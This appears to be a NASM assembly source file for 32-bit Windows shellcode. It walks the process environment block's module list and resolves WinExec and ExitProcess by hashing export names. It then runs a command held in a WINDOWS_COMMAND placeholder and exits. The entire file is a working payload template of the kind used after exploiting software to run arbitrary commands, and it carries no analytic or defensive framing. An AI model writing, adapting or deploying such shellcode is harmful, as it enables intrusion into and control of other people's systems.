; Windows, 32 bit: modules in load order, behind ntdll, until one exports the function whose name has the hash (h * 33 + c);
; WinExec, ExitProcess.
%macro HASH33 2
%strlen %%length %2
%assign %%h 5381
%assign %%i 1
%rep %%length
%substr %%c %2 %%i
%assign %%h (%%h * 33 + %%c) & 0xffffffff
%assign %%i %%i + 1
%endrep
%1 equ %%h
%endmacro
HASH33 win_exec, 'WinExec'
HASH33 exit_process, 'ExitProcess'
bits 32
        jmp main
; find: hash in edi; function in eax
find:   mov eax, [fs:0x30]
        mov eax, [eax + 0x0c]
        lea esi, [eax + 0x0c]   ; load order: program, ntdll, kernel32
        mov esi, [esi]
        mov esi, [esi]
module: mov esi, [esi]
        mov ebx, [esi + 0x18]
        test ebx, ebx
        jz module
        mov eax, [ebx + 0x3c]
        mov edx, [ebx + eax + 0x78]
        test edx, edx
        jz module
        add edx, ebx
        mov ecx, [edx + 0x18]
name:   jecxz module
        dec ecx
        mov eax, [edx + 0x20]
        add eax, ebx
        mov eax, [eax + ecx * 4]
        add eax, ebx
        push edx
        push ecx
        mov ebp, 5381
letter: movzx ecx, byte [eax]
        inc eax
        test ecx, ecx
        jz hashed
        imul ebp, ebp, 33
        add ebp, ecx
        jmp letter
hashed: pop ecx
        pop edx
        cmp ebp, edi
        jnz name
        mov eax, [edx + 0x24]
        add eax, ebx
        movzx ecx, word [eax + ecx * 2]
        mov eax, [edx + 0x1c]
        add eax, ebx
        mov eax, [eax + ecx * 4]
        add eax, ebx
        ret
main:   mov edi, win_exec
        call find
        call run
        db WINDOWS_COMMAND, 0
run:    pop edx
        push byte 5
        push edx
        call eax
        mov edi, exit_process
        call find
        push byte 0
        call eax
